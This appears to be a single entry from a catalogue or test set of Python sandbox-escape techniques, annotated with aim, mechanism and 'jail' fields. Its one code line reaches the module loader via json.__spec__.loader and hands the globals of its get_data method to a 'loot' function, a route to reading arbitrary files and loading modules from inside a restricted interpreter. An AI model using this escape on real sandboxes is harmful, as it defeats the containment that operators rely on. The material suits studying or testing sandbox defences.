# aim: reach the loader through the module specification
# mechanism: __spec__.loader
# language: check
# reason: a loader loads any module and reads any file
# jail: process
# plain: loot

import json

loot(type(json.__spec__.loader).get_data.__globals__)
